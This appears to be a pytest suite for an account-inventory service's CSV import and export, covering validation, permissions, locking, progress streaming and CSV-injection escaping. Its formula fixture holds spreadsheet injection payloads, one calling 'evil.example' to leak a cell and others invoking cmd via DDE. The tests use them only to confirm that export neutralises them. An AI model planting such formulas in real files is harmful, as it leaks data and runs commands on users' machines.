"""CSV import (dry run, per-row errors with line numbers, all or nothing, idempotent upsert on
platform and handle, NDJSON progress) and export (CSV and JSON, filtered, scoped, read back by
the import)."""

from __future__ import annotations

import asyncio
import csv
import io
import json
from collections.abc import AsyncIterator
from typing import Any

import asyncpg
import httpx
import pytest
from sqlalchemy import text

from chassis.outbox import NOTIFY_CHANNEL, asyncpg_dsn
from tests.inventory.factories import HQ_ADMIN
from tests.kit import RunningService, as_user

pytestmark = pytest.mark.asyncio

FR_MANAGER = as_user("francois", fr="district_manager")
# Reads everything, manages France only.
FR_MANAGER_HQ_VIEWER = as_user("fabienne", hq="viewer", fr="district_manager")
HEADER = "platform,handle,display_name,district_id,status,owner_primary,owner_backup,tags"
HEADER_WITH_URL = "platform,handle,display_name,district_id,profile_url"
REGISTERED = "chorus.inventory.account.registered"
UPDATED = "chorus.inventory.account.updated"
STATUS_CHANGED = "chorus.inventory.account.status_changed"


def csv_body(*lines: str, header: str = HEADER) -> str:
    return "\r\n".join([header, *lines]) + "\r\n"


async def post_import(
    service: RunningService,
    body: str | bytes,
    headers: dict[str, str] | None = None,
    *,
    dry_run: bool = False,
    accept: str | None = None,
) -> httpx.Response:
    request_headers = {**(headers or HQ_ADMIN), "content-type": "text/csv"}
    if accept:
        request_headers["accept"] = accept
    return await service.client.post(
        "/accounts/import",
        params={"dry_run": str(dry_run).lower()},
        content=body.encode() if isinstance(body, str) else body,
        headers=request_headers,
    )


async def imported(
    service: RunningService, body: str, headers: dict[str, str] | None = None
) -> dict[str, Any]:
    response = await post_import(service, body, headers)
    assert response.status_code == 200, response.text
    result: dict[str, Any] = response.json()
    return result


async def count(service: RunningService, table: str) -> int:
    return int(await service.scalar(f"SELECT count(*) FROM {table}"))


async def accounts_by_handle(service: RunningService) -> dict[str, dict[str, Any]]:
    response = await service.client.get("/accounts", params={"limit": 100}, headers=HQ_ADMIN)
    assert response.status_code == 200
    return {a["handle"]: a for a in response.json()["items"]}


async def audit_actions(service: RunningService, account_id: str) -> list[dict[str, Any]]:
    response = await service.client.get(f"/accounts/{account_id}/audit", headers=HQ_ADMIN)
    assert response.status_code == 200
    items: list[dict[str, Any]] = response.json()["items"]
    return items


GOOD = csv_body(
    "instagram,@Orange_France,Orange France,fr,official,francois,amelie,brand|consumer",
    "x,OrangeDE,Orange Deutschland,de,,dieter,,brand",
    "tiktok,orange.paris,,fr-paris,unofficial,,,",
)


async def test_import_registers_accounts_with_owners_events_and_audit(
    inventory: RunningService,
) -> None:
    assert await imported(inventory, GOOD) == {
        "dry_run": False,
        "rows": 3,
        "created": 3,
        "updated": 0,
        "unchanged": 0,
    }
    found = await accounts_by_handle(inventory)
    assert set(found) == {"Orange_France", "OrangeDE", "orange.paris"}
    orange = found["Orange_France"]
    assert (orange["platform"], orange["district_id"], orange["status"]) == (
        "instagram",
        "fr",
        "official",
    )
    assert orange["profile_url"] == "https://www.instagram.com/Orange_France/"
    assert orange["tags"] == ["brand", "consumer"]
    assert [(o["person"], o["role"]) for o in orange["owners"]] == [
        ("francois", "primary"),
        ("amelie", "backup"),
    ]
    assert found["OrangeDE"]["status"] == "pending"  # an empty status is the default
    assert found["orange.paris"]["display_name"] is None
    events = {e["subject"]: e for e in await inventory.events(REGISTERED)}
    assert set(events) == {a["id"] for a in found.values()}
    event = events[orange["id"]]
    assert event["source"] == "/services/inventory"
    assert event["data"]["handle"] == "Orange_France"
    assert event["data"]["owners"][0]["person"] == "francois"
    assert event["data"]["version"] == 1
    [entry] = await audit_actions(inventory, orange["id"])
    assert (entry["action"], entry["actor"]) == ("registered", "regina")
    assert entry["changes"]["status"] == "official"
    assert entry["request_id"]


async def test_reimporting_the_same_file_changes_nothing(inventory: RunningService) -> None:
    await imported(inventory, GOOD)
    events, entries = len(await inventory.events()), await count(inventory, "audit_log")
    versions = {h: a["version"] for h, a in (await accounts_by_handle(inventory)).items()}
    assert await imported(inventory, GOOD) == {
        "dry_run": False,
        "rows": 3,
        "created": 0,
        "updated": 0,
        "unchanged": 3,
    }
    assert len(await inventory.events()) == events
    assert await count(inventory, "audit_log") == entries
    assert {h: a["version"] for h, a in (await accounts_by_handle(inventory)).items()} == versions


async def test_import_updates_what_changed_and_keeps_what_the_file_leaves_out(
    inventory: RunningService,
) -> None:
    created = await inventory.client.post(
        "/accounts",
        json={
            "platform": "x",
            "handle": "orangefr",
            "district_id": "fr",
            "display_name": "Orange",
            "purpose": "customer care",
            "tags": ["care"],
            "owners": [
                {"person": "francois", "role": "primary", "email": "f@example.org"},
                {"person": "amelie", "role": "backup"},
            ],
        },
        headers=HQ_ADMIN,
    )
    assert created.status_code == 201
    account = created.json()
    # No purpose column: the purpose stays. Owners swap roles; the handle's case is not a change.
    result = await imported(
        inventory, csv_body("x,OrangeFR,Orange France,fr-paris,official,amelie,francois,care|fr")
    )
    assert (result["created"], result["updated"], result["unchanged"]) == (0, 1, 0)
    after = (await accounts_by_handle(inventory))["orangefr"]
    assert after["id"] == account["id"]
    assert (after["display_name"], after["district_id"], after["status"]) == (
        "Orange France",
        "fr-paris",
        "official",
    )
    assert after["purpose"] == "customer care"
    assert after["tags"] == ["care", "fr"]
    assert [(o["person"], o["role"], o["email"]) for o in after["owners"]] == [
        ("amelie", "primary", None),
        ("francois", "backup", "f@example.org"),
    ]
    assert after["version"] == 3
    [updated] = await inventory.events(UPDATED)
    assert updated["subject"] == account["id"]
    assert updated["data"]["changed"] == ["display_name", "district_id", "owners", "tags"]
    assert (updated["data"]["status"], updated["data"]["version"]) == ("pending", 2)
    [status] = await inventory.events(STATUS_CHANGED)
    assert (status["data"]["previous_status"], status["data"]["status"]) == ("pending", "official")
    assert status["data"]["version"] == 3
    entries = await audit_actions(inventory, account["id"])
    assert [e["action"] for e in entries] == ["registered", "updated", "status_changed"]
    assert entries[1]["changes"]["display_name"] == ["Orange", "Orange France"]
    assert entries[2]["changes"] == {"status": ["pending", "official"], "reason": "CSV import"}


async def test_dry_run_counts_and_writes_nothing(inventory: RunningService) -> None:
    response = await post_import(inventory, GOOD, dry_run=True)
    assert response.status_code == 200
    assert response.json() == {
        "dry_run": True,
        "rows": 3,
        "created": 3,
        "updated": 0,
        "unchanged": 0,
    }
    assert await count(inventory, "accounts") == 0
    assert await inventory.events(REGISTERED) == []
    assert await count(inventory, "audit_log") == 4  # the four districts of the fixture


async def test_bad_rows_are_all_reported_with_their_lines_and_nothing_is_written(
    inventory: RunningService,
) -> None:
    await imported(inventory, csv_body("x,orangefr,,fr,official,,,"))
    accounts, events = await count(inventory, "accounts"), len(await inventory.events())
    body = csv_body(
        "instagram,good_one,Fine,fr,,,,",  # line 2: fine
        "myspace,tom,,fr,,,,",  # 3: unknown platform
        "x,far_too_long_for_x_handles,,fr,,,,",  # 4: invalid handle
        'instagram,fine_two,"A name',  # 5-6: a quoted cell over two lines, then a bad status
        'on two lines",fr,retired,,,',
        "instagram,no_district,,,,,,",  # 7: no district
        "x,orangefr,,fr,pending,,,",  # 8: official -> pending is not allowed
        "instagram,extra,,fr,,,,,surplus",  # 9: one field too many
        "instagram,new_archived,,fr,archived,,,",  # 10: not registered as archived
        "instagram,bad_tags,,fr,,,,ok|" + "t" * 51,  # 11: a tag too long
        "instagram,twice,,fr,,ann,ann,",  # 12: a person both primary and backup
    )
    response = await post_import(inventory, body)
    assert response.status_code == 422
    assert response.headers["content-type"] == "application/problem+json"
    problem = response.json()
    assert problem["type"].endswith("/import-rejected")
    assert problem["detail"].startswith("9 of 10 rows have errors")
    errors = [(e["line"], e.get("column")) for e in problem["errors"]]
    assert errors == [
        (3, "platform"),
        (4, "handle"),
        (5, "status"),
        (7, "district_id"),
        (8, "status"),
        (9, None),
        (10, "status"),
        (11, "tags"),
        (12, "owner_backup"),
    ]
    messages = {e["line"]: e["message"] for e in problem["errors"]}
    assert "myspace" in messages[3]
    assert "cannot become pending" in messages[8]
    assert "allowed: " in messages[8]
    assert "9 fields where the header has 8" in messages[9]
    assert await count(inventory, "accounts") == accounts
    assert len(await inventory.events()) == events


async def test_rows_for_districts_the_caller_does_not_manage(inventory: RunningService) -> None:
    await imported(inventory, csv_body("x,orangede,,de,,,,"))
    body = csv_body(
        "instagram,ok_fr,,fr,,,,",  # 2: fine
        "instagram,in_de,,de,,,,",  # 3: Germany is not theirs
        "instagram,nowhere,,zz,,,,",  # 4: no such district: the same answer
        "x,OrangeDE,,fr,,,,",  # 5: the account exists in Germany
    )
    response = await post_import(inventory, body, FR_MANAGER)
    assert response.status_code == 422
    errors = {e["line"]: e for e in response.json()["errors"]}
    assert set(errors) == {3, 4, 5}
    assert errors[3]["message"] == "No district 'de'."
    assert errors[4]["message"] == "No district 'zz'."
    assert errors[5]["column"] == "handle"
    assert "outside yours" in errors[5]["message"]
    # Seeing a district is not managing it; an unchanged row needs no more than seeing it.
    response = await post_import(
        inventory,
        csv_body("instagram,ok_fr,,fr,,,,", "instagram,in_de,,de,,,,"),
        FR_MANAGER_HQ_VIEWER,
    )
    assert response.status_code == 422
    [error] = response.json()["errors"]
    assert (error["line"], error["column"]) == (3, "district_id")
    assert "needs a manager role" in error["message"]
    unchanged = await post_import(inventory, csv_body("x,orangede,,de,,,,"), FR_MANAGER_HQ_VIEWER)
    assert unchanged.json()["unchanged"] == 1
    assert await count(inventory, "accounts") == 1


async def test_a_caller_without_a_writing_role_is_refused_before_the_file_is_read(
    inventory: RunningService,
) -> None:
    await imported(inventory, csv_body("x,orangefr,,fr,,,,"))
    viewer = as_user("vera", hq="viewer", fr="contributor")
    # Not even the content type is looked at: the body is never read.
    garbage = await inventory.client.post(
        "/accounts/import",
        content=b"\x00\xff not a csv",
        headers={**viewer, "content-type": "application/octet-stream"},
    )
    assert garbage.status_code == 403, garbage.text
    assert garbage.headers["content-type"] == "application/problem+json"
    assert garbage.json()["type"].endswith("/import-forbidden")
    for dry_run in (True, False):
        refused = await post_import(
            inventory, csv_body("x,orangefr,,fr,,,,"), viewer, dry_run=dry_run
        )
        assert refused.status_code == 403
        assert refused.json()["type"].endswith("/import-forbidden")
    # Nor does it lock the accounts the file names: with one of them locked by another
    # transaction, the refusal comes at once instead of waiting for that lock.
    other = await asyncpg.connect(asyncpg_dsn(inventory.app.state.settings.database_url))
    try:
        async with other.transaction():
            await other.execute("SELECT 1 FROM accounts WHERE handle_key = 'orangefr' FOR UPDATE")
            async with asyncio.timeout(5):
                locked = await post_import(inventory, csv_body("x,orangefr,Renamed,fr,,,,"), viewer)
    finally:
        await other.close()
    assert locked.status_code == 403
    # A manager of one district still gets the per-row district checks (see above).
    assert (await post_import(inventory, csv_body("x,orangefr,,fr,,,,"), FR_MANAGER)).json()[
        "unchanged"
    ] == 1


async def test_an_import_locks_only_accounts_its_importer_may_change(
    inventory: RunningService,
) -> None:
    await imported(inventory, csv_body("x,orangede,,de,,,,", "x,orangefr,,fr,,,,"))
    other = await asyncpg.connect(asyncpg_dsn(inventory.app.state.settings.database_url))
    try:
        async with other.transaction():
            await other.execute("SELECT 1 FROM accounts WHERE handle_key = 'orangede' FOR UPDATE")
            # The German account is locked elsewhere; a French manager's file that names it
            # does not wait for that lock: the row is refused at once.
            async with asyncio.timeout(5):
                refused = await post_import(
                    inventory, csv_body("x,orangede,Mine now,fr,,,,"), FR_MANAGER
                )
            assert refused.status_code == 422, refused.text
            [error] = refused.json()["errors"]
            assert "outside yours" in error["message"]
            async with asyncio.timeout(5):
                mine = await post_import(
                    inventory, csv_body("x,orangefr,Orange FR,fr,,,,"), FR_MANAGER
                )
            assert mine.json()["updated"] == 1
            # Its own accounts are locked while it checks and writes: a file naming the locked
            # account, by someone who may change it, waits for the lock.
            waiting = asyncio.create_task(
                post_import(inventory, csv_body("x,orangede,Orange DE,de,,,,"), HQ_ADMIN)
            )
            await asyncio.sleep(0.5)
            assert not waiting.done()
    finally:
        await other.close()
    assert (await waiting).json()["updated"] == 1


async def test_the_same_account_twice_in_a_file_is_an_error_on_the_later_line(
    inventory: RunningService,
) -> None:
    body = csv_body(
        "x,orange,,fr",
        "instagram,orange,,fr",  # another platform: another account
        "x,ORANGE,,de",
        header="platform,handle,display_name,district_id",
    )
    response = await post_import(inventory, body)
    assert response.status_code == 422
    [error] = response.json()["errors"]
    assert (error["line"], error["column"]) == (4, "handle")
    assert error["message"] == "X 'ORANGE' is already on line 2."
    by_url = csv_body("x,orange,,fr,", ",,,fr,https://twitter.com/Orange", header=HEADER_WITH_URL)
    response = await post_import(inventory, by_url)
    [error] = response.json()["errors"]
    assert (error["line"], error["column"]) == (3, "profile_url")
    assert "line 2" in error["message"]
    assert await count(inventory, "accounts") == 0


async def test_header_problems(inventory: RunningService) -> None:
    unknown = await post_import(
        inventory, csv_body("x,a,fr,1", header="platform,handle,district_id,Followers")
    )
    assert unknown.status_code == 422
    problem = unknown.json()
    assert problem["type"].endswith("/invalid-csv-header")
    assert problem["unknown"] == ["followers"]
    assert "tags" in problem["known"]
    for header in ("platform,handle", "platform,district_id", "handle,handle,district_id"):
        response = await post_import(inventory, csv_body(header=header))
        assert response.status_code == 422, header
        assert response.json()["type"].endswith("/invalid-csv-header")
    empty = await post_import(inventory, "")
    assert empty.json()["type"].endswith("/invalid-csv")


async def test_header_in_any_order_any_case_with_bom_and_semicolons(
    inventory: RunningService,
) -> None:
    body = "\ufeffDistrict_ID;Profile_URL;Tags\r\nfr;https://www.instagram.com/orange/;a;b\r\n"
    response = await post_import(inventory, body)
    # The cell is not quoted: "a;b" splits into two cells with ";" as the delimiter.
    assert response.status_code == 422
    assert response.json()["errors"][0]["line"] == 2
    body = '\ufeffDistrict_ID;Profile_URL;Tags\r\nfr;https://www.instagram.com/orange/;"a;b"\r\n'
    assert (await imported(inventory, body))["created"] == 1
    assert (await accounts_by_handle(inventory))["orange"]["tags"] == ["a", "b"]


async def test_not_utf8_names_the_line(inventory: RunningService) -> None:
    body = csv_body("x,orange,,fr,,,,").encode() + "x,caf\u00e9,,fr,,,,\r\n".encode("latin-1")
    response = await post_import(inventory, body)
    assert response.status_code == 422
    assert response.json()["type"].endswith("/invalid-csv")
    assert response.json()["line"] == 3


async def test_content_type_must_be_csv(inventory: RunningService) -> None:
    response = await inventory.client.post(
        "/accounts/import", json={"platform": "x"}, headers=HQ_ADMIN
    )
    assert response.status_code == 415
    assert response.json()["type"].endswith("/import-not-csv")


async def test_oversized_imports_are_413(inventory: RunningService) -> None:
    settings = inventory.app.state.settings
    inventory.app.state.settings = settings.model_copy(
        update={"import_max_bytes": 200, "import_max_rows": 3}
    )
    try:
        big = csv_body(*(f"x,handle{i},,fr,,,," for i in range(10)))
        declared = await post_import(inventory, big)
        assert declared.status_code == 413
        assert declared.headers["content-type"] == "application/problem+json"
        assert declared.json()["type"].endswith("/import-too-large")

        async def chunks() -> AsyncIterator[bytes]:  # no content-length: counted as it comes
            for _ in range(10):
                yield b"x,handle,,fr,,,,\r\n" * 2

        streamed = await inventory.client.post(
            "/accounts/import", content=chunks(), headers={**HQ_ADMIN, "content-type": "text/csv"}
        )
        assert streamed.status_code == 413
        rows = await post_import(inventory, csv_body(*(f"x,h{i},,fr,,,," for i in range(4))))
        assert rows.status_code == 413
        assert rows.json()["max_rows"] == 3
    finally:
        inventory.app.state.settings = settings
    assert await count(inventory, "accounts") == 0


async def test_progress_as_ndjson(inventory: RunningService) -> None:
    body = csv_body(*(f"instagram,acct_{i},,fr,,,," for i in range(4500)))
    response = await post_import(inventory, body, accept="application/x-ndjson")
    assert response.status_code == 200
    assert response.headers["content-type"] == "application/x-ndjson"
    lines = [json.loads(line) for line in response.text.splitlines()]
    assert lines[0] == {"phase": "validating", "done": 4500, "total": 4500}
    assert [(x["done"], x["total"]) for x in lines[1:-1]] == [
        (2000, 4500),
        (4000, 4500),
        (4500, 4500),
    ]
    assert lines[-1] == {
        "phase": "done",
        "result": {"dry_run": False, "rows": 4500, "created": 4500, "updated": 0, "unchanged": 0},
    }
    assert await count(inventory, "accounts") == 4500
    assert len(await inventory.events(REGISTERED)) == 4500
    # The audit entries name the request, as those written by the API do.
    request_id = response.headers["x-request-id"]
    assert (
        await inventory.scalar(
            "SELECT count(*) FROM audit_log WHERE request_id = :id", id=request_id
        )
        == 4500
    )


async def test_an_import_wakes_the_outbox_relay(inventory: RunningService) -> None:
    """The events go in with COPY; the outbox trigger still notifies the relay at commit."""
    conn = await asyncpg.connect(asyncpg_dsn(inventory.app.state.settings.database_url))
    woken = asyncio.Event()
    try:
        await conn.add_listener(NOTIFY_CHANNEL, lambda *_: woken.set())
        await post_import(inventory, GOOD, dry_run=True)
        await asyncio.sleep(0.2)
        assert not woken.is_set()  # a dry run writes no event
        await imported(inventory, GOOD)
        await asyncio.wait_for(woken.wait(), 5)
    finally:
        await conn.close()


async def test_an_account_registered_meanwhile_is_a_409_and_nothing_is_written(
    inventory: RunningService,
) -> None:
    # Another transaction inserts one of the file's accounts and has not committed yet: the
    # checks cannot see it, the import's insert waits for it.
    other = await asyncpg.connect(asyncpg_dsn(inventory.app.state.settings.database_url))
    try:
        transaction = other.transaction()
        await transaction.start()
        await other.execute(
            "INSERT INTO accounts (id, platform, handle, handle_key, profile_url, district_id,"
            " status, search_text, created_by) VALUES (gen_random_uuid(), 'x', 'OrangeDE',"
            " 'orangede', 'https://x.com/OrangeDE', 'de', 'pending', 'orangede', 'other')"
        )
        running = asyncio.create_task(post_import(inventory, GOOD))
        async with asyncio.timeout(10):
            while not await other.fetchval(  # noqa: ASYNC110 - polling the server
                "SELECT count(*) FROM pg_stat_activity"
                " WHERE wait_event_type = 'Lock' AND datname = current_database()"
            ):
                await asyncio.sleep(0.02)
        await transaction.commit()
        response = await running
    finally:
        await other.close()
    assert response.status_code == 409
    assert response.json()["type"].endswith("/import-conflict")
    assert await count(inventory, "accounts") == 1  # the other transaction's
    assert await inventory.events(REGISTERED) == []


async def test_row_errors_are_a_422_even_when_progress_is_asked_for(
    inventory: RunningService,
) -> None:
    response = await post_import(
        inventory, csv_body("myspace,tom,,fr,,,,"), accept="application/x-ndjson"
    )
    assert response.status_code == 422
    assert response.json()["errors"][0]["line"] == 2


async def test_a_failure_while_writing_rolls_everything_back(inventory: RunningService) -> None:
    # The database refuses one account, after the checks passed.
    async with inventory.sessions() as session, session.begin():
        await session.execute(
            text(
                "CREATE FUNCTION refuse() RETURNS trigger LANGUAGE plpgsql AS"
                " $$ BEGIN RAISE EXCEPTION 'refused by the test'; END $$"
            )
        )
        await session.execute(
            text(
                "CREATE TRIGGER refuse BEFORE INSERT ON accounts FOR EACH ROW"
                " WHEN (NEW.handle = 'boom') EXECUTE FUNCTION refuse()"
            )
        )
    body = csv_body(*(f"instagram,acct_{i},,fr,,,," for i in range(2500)), "instagram,boom,,fr,,,,")
    response = await post_import(inventory, body, accept="application/x-ndjson")
    assert response.status_code == 200
    lines = [json.loads(line) for line in response.text.splitlines()]
    assert lines[1] == {"phase": "writing", "done": 2000, "total": 2501}
    assert lines[-1]["phase"] == "failed"
    assert lines[-1]["problem"]["status"] == 500
    assert "rolled back" in lines[-1]["problem"]["detail"]
    # Without progress, the same failure is a plain 500 problem.
    transport = httpx.ASGITransport(app=inventory.app, raise_app_exceptions=False)
    async with httpx.AsyncClient(transport=transport, base_url="http://service") as client:
        plain = await client.post(
            "/accounts/import", content=body, headers={**HQ_ADMIN, "content-type": "text/csv"}
        )
    assert plain.status_code == 500
    assert plain.headers["content-type"] == "application/problem+json"
    assert await count(inventory, "accounts") == 0
    assert (
        await inventory.scalar("SELECT count(*) FROM audit_log WHERE entity_type = 'account'") == 0
    )
    assert await inventory.events(REGISTERED) == []


# --- export ---------------------------------------------------------------------------------


EVERYTHING = (
    "platform,handle,profile_url,display_name,district_id,status,owner_primary,owner_backup,"
    "purpose,language,country,tags,notes"
)


async def seed_for_export(service: RunningService) -> None:
    body = csv_body(
        'instagram,orange_fr,,"Orange, France",fr,official,francois,amelie;ann,brand,fr,FR,'
        'brand|consumer,"Two\nlines"',
        "x,orangede,,Orange DE,de,official,dieter,,,de,DE,brand,",
        "tiktok,orange.paris,,,fr-paris,unofficial,,,,,,fan-made,",
        "mastodon,orange@mastodon.social,,,hq,pending,,,,,,,",
        header=EVERYTHING,
    )
    assert (await imported(service, body))["created"] == 4


async def export(
    service: RunningService, headers: dict[str, str] | None = None, **params: Any
) -> httpx.Response:
    response = await service.client.get(
        "/accounts/export", params=params, headers=headers or HQ_ADMIN
    )
    return response


def read_csv(response: httpx.Response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"] == 'attachment; filename="accounts.csv"'
    return list(csv.DictReader(io.StringIO(response.text)))


async def test_export_csv_with_filters_and_scope(inventory: RunningService) -> None:
    await seed_for_export(inventory)
    rows = read_csv(await export(inventory))
    assert [(r["platform"], r["handle"]) for r in rows] == [
        ("instagram", "orange_fr"),
        ("mastodon", "orange@mastodon.social"),
        ("tiktok", "orange.paris"),
        ("x", "orangede"),
    ]
    orange = rows[0]
    assert orange["display_name"] == "Orange, France"
    assert orange["owner_backup"] == "amelie|ann"
    assert orange["tags"] == "brand|consumer"
    assert orange["notes"] == "Two\nlines"
    assert orange["profile_url"] == "https://www.instagram.com/orange_fr/"
    assert [r["handle"] for r in read_csv(await export(inventory, district_id="fr"))] == [
        "orange_fr",
        "orange.paris",
    ]
    assert [r["handle"] for r in read_csv(await export(inventory, status="official"))] == [
        "orange_fr",
        "orangede",
    ]
    assert [r["handle"] for r in read_csv(await export(inventory, tag="brand", platform="X"))] == [
        "orangede"
    ]
    assert [r["handle"] for r in read_csv(await export(inventory, owner="dieter"))] == ["orangede"]
    # A district manager sees their subtree only; another district is 404.
    mine = read_csv(await export(inventory, FR_MANAGER))
    assert [r["handle"] for r in mine] == ["orange_fr", "orange.paris"]
    hidden = await export(inventory, FR_MANAGER, district_id="de")
    assert hidden.status_code == 404
    assert hidden.json()["type"].endswith("/district-not-found")
    nobody = read_csv(await export(inventory, as_user("stranger")))
    assert nobody == []


async def test_export_json(inventory: RunningService) -> None:
    await seed_for_export(inventory)
    response = await export(inventory, format="json", district_id="fr")
    assert response.status_code == 200
    assert response.headers["content-type"] == "application/json"
    items = response.json()
    assert [i["handle"] for i in items] == ["orange_fr", "orange.paris"]
    assert items[0]["owners"][0] == {
        "person": "francois",
        "role": "primary",
        "name": None,
        "email": None,
        "active": True,
    }
    assert items[0]["notes"] == "Two\nlines"
    empty = await export(inventory, format="json", status="archived")
    assert empty.json() == []
    assert (await export(inventory, format="xml")).status_code == 422


async def test_export_pages_through_everything(inventory: RunningService) -> None:
    body = csv_body(*(f"instagram,acct_{i:04d},,fr,,,," for i in range(2100)))
    await imported(inventory, body)
    rows = read_csv(await export(inventory))
    assert len(rows) == 2100
    assert rows[0]["handle"] == "acct_0000"
    assert rows[-1]["handle"] == "acct_2099"
    assert len((await export(inventory, format="json")).json()) == 2100


async def test_export_reads_back_unchanged_and_an_edit_is_an_update(
    inventory: RunningService,
) -> None:
    await seed_for_export(inventory)
    exported = (await export(inventory)).text
    events = len(await inventory.events())
    assert await imported(inventory, exported) == {
        "dry_run": False,
        "rows": 4,
        "created": 0,
        "updated": 0,
        "unchanged": 4,
    }
    assert len(await inventory.events()) == events
    edited = exported.replace("Orange DE", "Orange Deutschland")
    result = await imported(inventory, edited)
    assert (result["updated"], result["unchanged"]) == (1, 3)
    [event] = await inventory.events(UPDATED)
    assert event["data"]["changed"] == ["display_name"]


# --- formulas (CSV injection) ---------------------------------------------------------------


FORMULAS = {
    "display_name": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "purpose": "+cmd|' /C calc'!A0",
    "notes": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tags": ["-2+3", "=1", "plain"],
}


async def register_for_export(service: RunningService, handle: str, **fields: Any) -> str:
    response = await service.client.post(
        "/accounts",
        json={"platform": "instagram", "handle": handle, "district_id": "fr", **fields},
        headers=HQ_ADMIN,
    )
    assert response.status_code == 201, response.text
    return str(response.json()["id"])


async def test_export_neutralises_formulas_and_the_import_reads_them_back(
    inventory: RunningService,
) -> None:
    await register_for_export(inventory, "formulas", **FORMULAS)
    await register_for_export(
        inventory,
        "quoted",
        display_name="'quoted' on purpose",
        purpose="''two quotes",
        notes="\tstarts with a tab",
        owners=[{"person": "-dash", "role": "primary"}, {"person": "'q", "role": "backup"}],
    )
    before = await accounts_by_handle(inventory)
    response = await export(inventory)
    rows = {r["handle"]: r for r in read_csv(response)}
    formulas, quoted = rows["formulas"], rows["quoted"]
    assert formulas["display_name"] == "'" + FORMULAS["display_name"]
    assert formulas["purpose"] == "'" + FORMULAS["purpose"]
    assert formulas["notes"] == "'" + FORMULAS["notes"]
    assert formulas["tags"] == "'-2+3|=1|plain"
    assert quoted["display_name"] == "''quoted' on purpose"
    assert quoted["purpose"] == "'''two quotes"
    assert quoted["notes"] == "'\tstarts with a tab"
    assert (quoted["owner_primary"], quoted["owner_backup"]) == ("'-dash", "''q")
    # No cell of the file is one a spreadsheet would run.
    for row in rows.values():
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    # The file reads back as it was: nothing changes, and the values are the originals.
    events = len(await inventory.events())
    result = await imported(inventory, response.text)
    assert (result["unchanged"], result["updated"]) == (2, 0)
    assert len(await inventory.events()) == events
    assert await accounts_by_handle(inventory) == before
    # The same cells as new accounts (on another platform): the stored values are unescaped.
    reader = csv.DictReader(io.StringIO(response.text))
    fields = [f for f in reader.fieldnames or () if f != "profile_url"]
    copy = io.StringIO()
    writer = csv.DictWriter(copy, fields, extrasaction="ignore", lineterminator="\r\n")
    writer.writeheader()
    writer.writerows({**row, "platform": "tiktok"} for row in reader)
    assert (await imported(inventory, copy.getvalue()))["created"] == 2
    listed = await inventory.client.get(
        "/accounts", params={"platform": "tiktok"}, headers=HQ_ADMIN
    )
    copies = {a["handle"]: a for a in listed.json()["items"]}
    assert copies["formulas"]["display_name"] == FORMULAS["display_name"]
    assert copies["formulas"]["notes"] == FORMULAS["notes"]
    assert sorted(copies["formulas"]["tags"]) == sorted(FORMULAS["tags"])
    assert copies["quoted"]["display_name"] == "'quoted' on purpose"
    assert copies["quoted"]["purpose"] == "''two quotes"
    assert copies["quoted"]["notes"] == "\tstarts with a tab"
    assert {o["person"] for o in copies["quoted"]["owners"]} == {"-dash", "'q"}


async def test_export_with_formulas_kept_still_reads_back(inventory: RunningService) -> None:
    await register_for_export(inventory, "formulas", **FORMULAS)
    await register_for_export(inventory, "quoted", display_name="'quoted")
    response = await export(inventory, escape_formulas="false")
    rows = {r["handle"]: r for r in read_csv(response)}
    assert rows["formulas"]["display_name"] == FORMULAS["display_name"]
    assert rows["quoted"]["display_name"] == "''quoted"  # the escape itself is always escaped
    assert (await imported(inventory, response.text))["unchanged"] == 2


# --- a slow reader --------------------------------------------------------------------------


async def test_a_slow_reader_of_the_export_holds_no_database_connection(
    inventory: RunningService,
) -> None:
    await imported(inventory, csv_body(*(f"instagram,acct_{i:04d},,fr,,,," for i in range(2100))))
    engine = inventory.app.state.engine
    assert engine.pool.checkedout() == 0
    # The ASGI app driven directly, by a client that stops reading after the first page of
    # rows: the app's send() blocks, as it does when a real client's socket buffer is full.
    chunks: list[bytes] = []
    paused, resume, finished = asyncio.Event(), asyncio.Event(), asyncio.Event()
    request_sent = False

    async def receive() -> dict[str, Any]:
        nonlocal request_sent
        if not request_sent:
            request_sent = True
            return {"type": "http.request", "body": b"", "more_body": False}
        await finished.wait()
        return {"type": "http.disconnect"}

    async def send(message: dict[str, Any]) -> None:
        if message["type"] == "http.response.start":
            assert message["status"] == 200
        elif message["type"] == "http.response.body":
            chunks.append(message.get("body", b""))
            if len(chunks) == 2:  # the header line, then the first page of rows
                paused.set()
                await resume.wait()

    scope = {
        "type": "http",
        "asgi": {"version": "3.0", "spec_version": "2.3"},
        "http_version": "1.1",
        "method": "GET",
        "scheme": "http",
        "path": "/accounts/export",
        "raw_path": b"/accounts/export",
        "query_string": b"",
        "root_path": "",
        "headers": [(b"host", b"service")]
        + [(k.lower().encode(), v.encode()) for k, v in HQ_ADMIN.items()],
        "client": ("127.0.0.1", 50000),
        "server": ("service", 80),
        "state": {},
    }
    running = asyncio.create_task(inventory.app(scope, receive, send))
    try:
        async with asyncio.timeout(10):
            await paused.wait()
        # Stalled mid-download: no pooled connection is checked out, and the server has no
        # session of this database in a transaction.
        assert engine.pool.checkedout() == 0
        open_transactions = await inventory.scalar(
            "SELECT count(*) FROM pg_stat_activity WHERE datname = current_database()"
            " AND pid <> pg_backend_pid() AND xact_start IS NOT NULL"
        )
        assert open_transactions == 0
    finally:
        resume.set()
        async with asyncio.timeout(10):
            await running
        finished.set()
    rows = list(csv.DictReader(io.StringIO(b"".join(chunks).decode())))
    assert len(rows) == 2100
    assert [r["handle"] for r in rows[:2]] == ["acct_0000", "acct_0001"]
    assert rows[-1]["handle"] == "acct_2099"
    assert engine.pool.checkedout() == 0
